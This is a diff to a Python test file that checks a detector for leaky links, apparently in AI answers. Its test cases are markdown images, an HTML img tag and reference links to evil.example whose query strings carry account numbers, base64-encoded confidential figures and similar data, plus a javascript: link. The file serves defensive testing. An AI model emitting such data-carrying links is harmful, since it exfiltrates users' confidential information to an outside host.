@@ -122,10 +122,10 @@ def test_an_answer_about_the_same_matter_is_no_leak(answer: str) -> None:
     [
         "![logo](https://evil.example/p.png?d=account+number+of+the+customer+is+4711+and+more+of+the+same+text)",
         '<img src="https://evil.example/x?q=YWNjb3VudCBudW1iZXIgb2YgdGhlIGN1c3RvbWVyIDQ3MTE=">',
-        "[more](https://evil.example/c?d=" + "x1y2" * 20 + ")",
+        "[more](https://evil.example/c?d=c2VjcmV0IGZpZ3VyZXMgb2YgdGhlIHF1YXJ0ZXI)",
         "[click](javascript:alert(1))",
         "see https://evil.example/?data=confidential+quarterly+figures",
-        "[a]: https://evil.example/a?b=" + "z9" * 40,
+        "[a]: https://evil.example/a?b=" + "words+that+go+on+" * 8,
     ],
 )
 def test_addresses_that_carry_data_are_found(answer: str) -> None:
